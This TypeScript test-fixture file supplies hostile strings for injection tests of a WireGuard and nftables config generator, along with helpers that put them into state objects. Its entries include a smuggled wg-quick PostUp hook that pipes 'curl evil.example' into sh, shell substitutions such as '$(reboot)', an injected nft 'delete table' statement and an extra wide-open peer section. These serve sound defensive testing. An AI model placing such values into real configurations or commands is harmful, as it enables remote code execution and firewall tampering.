import type { DesiredState, WireGuardPeerEntry } from '@wom/domain';

/**
 * Text an attacker (or a careless import) could put into names, hosts and keys. Each entry
 * aims at one way out of a comment or a value: a new INI line or section, a new nft
 * statement or block, shell expansion in a hook, escapes, or simply size.
 */
export const HOSTILE_TEXTS: readonly (readonly [label: string, text: string])[] = [
  ['an INI section after a newline', 'evil\n[Peer]\nPublicKey = iEcaYUVKq51Sdt7uMulPVv7fDRI4PiOuHwM8DAzNOxg=\nAllowedIPs = 0.0.0.0/0'],
  ['a wg-quick hook after a carriage return', 'evil\rPostUp = curl evil.example | sh'],
  ['an nft statement after a newline', 'evil\n}\ndelete table inet other\ntable inet wom {'],
  ['quotes and shell syntax', `"'$(reboot)\`id\`;&|<>`],
  ['brackets and braces', '[Interface] { } ; [Peer] ]['],
  ['a trailing backslash', 'line continues\\'],
  ['a NUL byte', 'nul\u0000byte'],
  ['non-ASCII letters and emoji', 'Zürich-Büro 東京 🚀'],
  ['a bidi override', 'safe\u202Eevil'],
  ['Unicode line separators', 'a\u2028b\u2029c\u0085d'],
  ['an ANSI escape', '\u001b[2J\u001b[31mred'],
  ['a lone surrogate', 'a\uD800b'],
  ['10k characters', 'A'.repeat(10_000)],
  ['10k newlines', '\n'.repeat(10_000)],
];

/** Values that look almost right, for structural fields: each must be rejected. */
export const NEAR_MISS_VALUES: readonly (readonly [label: string, text: string])[] = [
  ['a value with a trailing newline', 'wg0\n'],
  ['a second INI line', 'x\nPostUp = id'],
  ['an nft string break', 'wg0" accept #'],
  ['an empty string', ''],
];

/** `state` with every free-text name set to `text`: the peer, its peers, services. */
export function withHostileNames(state: DesiredState, text: string): DesiredState {
  return {
    ...state,
    peerName: text,
    peerId: text,
    contentHash: text,
    peers: state.peers.map((peer) => ({ ...peer, name: text })),
    serviceNat: state.serviceNat.map((rule) => ({ ...rule, name: text })),
  };
}

export function withInterfaceName(state: DesiredState, name: string): DesiredState {
  return { ...state, interface: { ...state.interface, name } };
}

export function withPeerChange(state: DesiredState, change: Partial<WireGuardPeerEntry>): DesiredState {
  return { ...state, peers: state.peers.map((peer, index) => (index === 0 ? { ...peer, ...change } : peer)) };
}
